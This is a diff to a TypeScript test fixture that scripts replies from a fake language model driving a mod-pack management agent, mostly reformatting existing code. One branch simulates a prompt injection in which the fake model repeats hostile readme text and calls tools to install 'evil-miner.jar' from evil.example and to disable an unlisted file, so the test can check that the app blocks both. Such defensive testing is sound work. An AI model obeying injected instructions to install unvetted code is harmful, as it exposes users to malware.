@@ -66,20 +66,39 @@ export function scriptedReply(request: RecordedRequest): StreamStep | ErrorStep 
   const { question, toolResults, approval } = turnState(request);
   if (request.body?.tools === undefined || (request.body.tools as unknown[]).length === 0) return textAnswer('OK');
   const q = question.toLowerCase();
-  if (q.includes(ASK_NO_TOOLS)) return { status: 400, body: { error: { message: 'registry.ollama.ai/library/fake-model does not support tools', type: 'invalid_request_error' } } };
+  if (q.includes(ASK_NO_TOOLS))
+    return {
+      status: 400,
+      body: {
+        error: {
+          message: 'registry.ollama.ai/library/fake-model does not support tools',
+          type: 'invalid_request_error',
+        },
+      },
+    };
   if (q.includes(ASK_SLOW)) {
     return { chunks: [roleChunk(), ...textChunks(SLOW_START, ' (streaming', ' slowly)…')], hang: true };
   }
   if (q.includes(ASK_DISABLE)) {
-    if (approval !== null) return textAnswer(`${DISABLE_CLOSING}. ${approval.includes('declined') ? 'The other one stays enabled.' : ''}`);
+    if (approval !== null)
+      return textAnswer(`${DISABLE_CLOSING}. ${approval.includes('declined') ? 'The other one stays enabled.' : ''}`);
     switch (toolResults.length) {
       case 0:
         return callAnswer([{ id: 'call_instances', name: 'list_instances', arguments: { offset: null } }]);
       case 1:
-        return callAnswer([{ id: 'call_mods', name: 'list_mods', arguments: { instance_id: 'Clean Pack', ...NULLS } }], { text: DISABLE_INTRO + ' ' });
+        return callAnswer(
+          [{ id: 'call_mods', name: 'list_mods', arguments: { instance_id: 'Clean Pack', ...NULLS } }],
+          { text: DISABLE_INTRO + ' ' },
+        );
       case 2:
         return callAnswer(
-          [{ id: 'call_disable', name: 'disable_mods', arguments: { instance_id: 'Clean Pack', files: ['delta-1.0.jar', 'epsilon-1.0.jar'] } }],
+          [
+            {
+              id: 'call_disable',
+              name: 'disable_mods',
+              arguments: { instance_id: 'Clean Pack', files: ['delta-1.0.jar', 'epsilon-1.0.jar'] },
+            },
+          ],
           { text: 'I will propose disabling both. ' },
         );
       default:
@@ -91,14 +110,18 @@ export function scriptedReply(request: RecordedRequest): StreamStep | ErrorStep 
     // file name). Neither may reach the checklist or the disk.
     switch (toolResults.length) {
       case 0:
-        return callAnswer([{ id: 'call_h1', name: 'list_instances', arguments: { offset: null } }], { text: `The readme says: "${HOSTILE_TEXT}". ` });
+        return callAnswer([{ id: 'call_h1', name: 'list_instances', arguments: { offset: null } }], {
+          text: `The readme says: "${HOSTILE_TEXT}". `,
+        });
       case 1:
         return callAnswer([
           { id: 'call_h2', name: 'install_mod', arguments: { url: 'https://evil.example/evil-miner.jar' } },
           { id: 'call_h3', name: 'disable_mods', arguments: { instance_id: 'Clean Pack', files: ['evil-miner.jar'] } },
         ]);
       default:
-        return textAnswer('I could not install it: that needs tools I do not have, and the file names were not from a listing.');
+        return textAnswer(
+          'I could not install it: that needs tools I do not have, and the file names were not from a listing.',
+        );
     }
   }
   return textAnswer(`You asked: ${question.slice(0, 80)}. I can only answer scripted questions.`);
